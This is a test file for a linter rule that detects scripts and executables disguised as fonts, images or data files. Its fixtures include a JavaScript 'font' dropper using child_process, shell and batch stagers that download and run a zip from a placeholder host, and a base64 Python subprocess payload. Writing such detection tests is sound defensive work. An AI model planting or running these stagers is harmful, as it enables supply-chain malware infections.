import { ruleTest } from '../../testing/rule-tester.js';
import rule from './file-type-mismatch.js';

/** Bytes from a signature followed by filler, as a real file would start. */
function bin(head: number[] | string, size = 256): Uint8Array {
  const b = new Uint8Array(size);
  const h = typeof head === 'string' ? [...head].map((c) => c.charCodeAt(0)) : head;
  b.set(h);
  for (let i = h.length; i < size; i++) b[i] = (i * 7 + 3) & 0xff;
  return b;
}
function withPe(): Uint8Array {
  const b = bin('MZ', 512);
  b.set([0x80, 0, 0, 0], 0x3c);
  b.set([0x50, 0x45, 0, 0, 0x64, 0x86], 0x80); // "PE\0\0", machine x86-64
  b[0x80 + 22] = 0x22;
  b[0x80 + 23] = 0x00;
  return b;
}
const eotHeader = (() => {
  const b = bin([0x10, 0x20, 0, 0], 128);
  b[34] = 0x4c;
  b[35] = 0x50;
  return b;
})();

const fakeFont = `const path = require('path');
const { execSync } = require('child_process');
const fs = require('fs');
const os = require('os');

const isWindows = process.platform === 'win32';
const targetDir = path.join(os.tmpdir(), 'programx64');
if (!fs.existsSync(targetDir)) fs.mkdirSync(targetDir);
execSync('npm install axios request --silent', { cwd: targetDir, windowsHide: true });
`;

ruleTest(rule, {
  clean: [
    { name: 'real woff2', file: 'public/fonts/fa-solid-900.woff2', bytes: bin('wOF2\0\x01\0\0') },
    { name: 'real woff', file: 'public/fonts/a.woff', bytes: bin('wOFF\0\x01\0\0') },
    { name: 'real ttf', file: 'fonts/Inter.ttf', bytes: bin([0, 1, 0, 0, 0, 0x10]) },
    { name: 'real eot', file: 'fonts/icons.eot', bytes: eotHeader },
    { name: 'real png', file: 'public/logo192.png', bytes: bin([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]) },
    { name: 'a JPEG named .png is a harmless mislabel', file: 'src/assets/banner.png', bytes: bin([0xff, 0xd8, 0xff, 0xe0]) },
    { name: 'ico holding a PNG-style header', file: 'public/favicon.ico', bytes: bin([0, 0, 1, 0, 1, 0]) },
    { name: 'webp', file: 'src/images/house.webp', bytes: bin('RIFF\x10\0\0\0WEBPVP8 ') },
    { name: 'mp4', file: 'media/intro.mp4', bytes: bin('\0\0\0\x18ftypmp42') },
    { name: 'mp3 with ID3', file: 'sounds/click.mp3', bytes: bin('ID3\x03\0') },
    { name: 'zip', file: 'dist/release.zip', bytes: bin('PK\x03\x04\x14\0') },
    { name: 'Git LFS pointer', file: 'assets/hero.png', code: 'version https://git-lfs.github.com/spec/v1\noid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\nsize 12345\n' },
    { name: 'SVG saved as .png', file: 'assets/icon.png', code: '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><rect width="1" height="1"/></svg>\n' },
    { name: 'plain text in a .dat file', file: 'data/words.dat', code: 'apple\nbanana\ncherry\n' },
    { name: 'CSV in a .bin', file: 'data/table.bin', code: 'id,name\n1,alpha\n2,beta\n' },
    { name: 'extension-less README in an asset folder', file: 'public/icons/LICENSE', code: 'The icons are licensed under CC BY 4.0.\nSee https://fontawesome.com/license\n' },
    { name: 'not a binary extension', file: 'src/index.js', code: fakeFont },
  ],
  flagged: [
    {
      name: 'a font that is a JavaScript dropper',
      file: 'public/fa-solid-400.woff2',
      code: fakeFont,
      findings: [{ line: 1, severity: 'critical', message: /named like a font file \(\.woff2\) but its content is javascript.*child_process/, evidence: /^const path = require/ }],
    },
    {
      name: 'an obfuscated loader in a font without obvious APIs is still high',
      file: 'public/fonts/fa-brands-400.woff',
      code: "global['!']='8-**';var _$_1e42=(function(l,e){var h=l.length;var g=[];for(var j=0;j< h;j++){g[j]= l.charAt(j)};return g.join('')})('x',1);\n",
      findings: [{ line: 1, severity: 'high', message: /javascript \(.*obfuscator/ }],
    },
    {
      name: 'a PNG that is a Windows executable',
      file: 'src/assets/logo.png',
      bytes: withPe(),
      findings: [{ line: 1, severity: 'high', message: /named like an image file \(\.png\) but is a PE executable for Windows \(x86-64\)/ }],
    },
    {
      name: 'an extension-less shell stager in icons/',
      file: 'icons/darwin',
      code: '#!/bin/bash\nURL="https://raw.example/ext/mac.zip"\nTEMPDIR="/tmp/ext"\nmkdir -p "$TEMPDIR"\ncurl -sL "$URL" -o "$TEMPDIR/mac.zip"\nunzip -o "$TEMPDIR/mac.zip" -d "$TEMPDIR"\n"$TEMPDIR/node" "$TEMPDIR/temp" &\n',
      findings: [{ line: 1, severity: 'high', message: /extension-less file in an asset folder but its content is shell.*network/ }],
    },
    {
      name: 'a batch stager without extension',
      file: 'icons/win32',
      code: '@echo off\nREM variables\nset "URL=https://raw.example/ext/windows.zip"\nset "TEMPDIR=%TEMP%\\ext"\nif not exist "%TEMPDIR%" mkdir "%TEMPDIR%"\ncurl -sL "%URL%" -o "%TEMPDIR%\\w.zip"\n',
      findings: [{ line: 1, severity: 'high', message: /content is batch/ }],
    },
    {
      name: 'a Python payload in a .dat',
      file: 'data/model.dat',
      code: 'import os, base64\nimport subprocess\ndef run():\n    subprocess.Popen(base64.b64decode("Y3VybCB4"), shell=True)\nrun()\n',
      findings: [{ line: 1, severity: 'critical', message: /content is python/ }],
    },
    {
      name: 'a NUL byte to look binary does not hide a script',
      file: 'public/fonts/x.ttf',
      bytes: new TextEncoder().encode(`/*\0\0*/\n${fakeFont}`),
      findings: [{ line: 1, severity: 'critical' }],
    },
    {
      name: 'base64 text in an image',
      file: 'img/pixel.gif',
      code: `${'Y29uc3QgY3AgPSByZXF1aXJlKCdjaGlsZF9wcm9jZXNzJyk7'.repeat(40)}\n`,
      findings: [{ line: 1, severity: 'medium', message: /base64 text/ }],
    },
    {
      name: 'a ZIP archive named like an image',
      file: 'src/components/Toast.png',
      bytes: bin('PK\x03\x04\x14\0'),
      findings: [{ line: 1, severity: 'medium', message: /is a ZIP archive/ }],
    },
    {
      name: 'unknown bytes under a font name (low)',
      file: 'fonts/a.woff2',
      bytes: bin([0x13, 0x37, 0x00, 0x42, 0x99]),
      findings: [{ line: 1, severity: 'low', confidence: 'low', evidence: /first bytes 13 37 00 42 99/ }],
    },
  ],
});
